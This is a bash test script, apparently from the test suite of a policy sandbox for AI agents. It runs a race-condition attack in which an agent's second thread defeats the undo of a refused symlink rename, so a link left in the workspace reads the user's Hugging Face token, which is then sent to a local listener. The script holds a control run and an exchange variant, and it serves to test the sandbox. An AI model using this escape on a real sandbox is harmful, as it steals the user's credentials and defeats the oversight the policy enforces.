#!/bin/bash
# A refused rename of a symlink into a secret place is taken back with
# renameat2(LINK, tmplink, RENAME_NOREPLACE) and its result is not checked: a second
# agent thread that takes the name tmplink while the rename is decided makes the undo
# fail, and the secret-named link stays. The policy (hf.claw) denies reading the
# Hugging Face token; the agent's held ws/hf/token then reads the token the user writes.
set -u; . "$(dirname "$0")/../common.sh"
IP=127.79.10.1
D=$R9B/undo-noreplace-race; W=$D/ws H=$D/home
$ROOT/target/debug/clawc compile $D/hf.claw -o $D/hf.bin 2>/dev/null || { echo "compile failed"; exit 1; }
outside() { # the user's tool: `huggingface-cli login` writing the token (no mkdir)
  for i in $(seq 1200); do [ -e $W/ready ] && break; sleep 0.05; done; sleep 0.3
  printf "hf_USER-TOKEN-$1\n" > $H/.cache/huggingface/token && echo "user's token written through ~/.cache/huggingface -> $(readlink $H/.cache/huggingface)"; }
try() { # try NAME MODE CFG
  rm -rf $W $H; mkdir -p $W/hf $H/.cache; gcc -O1 -pthread -o $W/undorace $D/undorace.c; echo agent-placeholder > $W/hf/token
  for i in $(seq ${FILES:-2000}); do : > $W/hf/f$i; done   # widens learn_link's listing
  listen $IP $D/out-$1.txt; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 120 $CLAW exec --policy $D/hf.bin --mode $mode --workspace $W -- ./undorace $IP $W/hf $H/.cache/huggingface 2 $2) 2>&1 | grep -v "watcher armed"
  wait $CPID; verdict $D/out-$1.txt hf_USER-TOKEN; }
for cfg in ${CFGS:-kopens mediated isolated}; do
  echo "==== $cfg: attack (rename refused, a second thread takes the old name before the undo)"; try race-$cfg race $cfg
  echo "==== $cfg: control (the same rename, no second thread)"; try plain-$cfg plain $cfg
done
for cfg in ${XCFGS:-mediated isolated}; do
  echo "==== $cfg: variant (exchange refused, a second thread removes the directory exchanged out before the undo)"; try xrace-$cfg race-exchange $cfg
done
